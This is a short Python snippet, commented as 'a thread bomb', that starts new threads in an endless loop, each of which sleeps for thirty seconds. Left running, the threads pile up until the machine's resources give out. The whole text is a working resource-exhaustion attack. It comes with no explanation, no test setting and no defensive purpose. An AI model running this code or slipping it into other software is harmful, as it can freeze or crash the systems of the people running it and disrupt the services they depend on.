# why: a thread bomb
import threading, time
def work():
    time.sleep(30)
while True:
    threading.Thread(target=work).start()
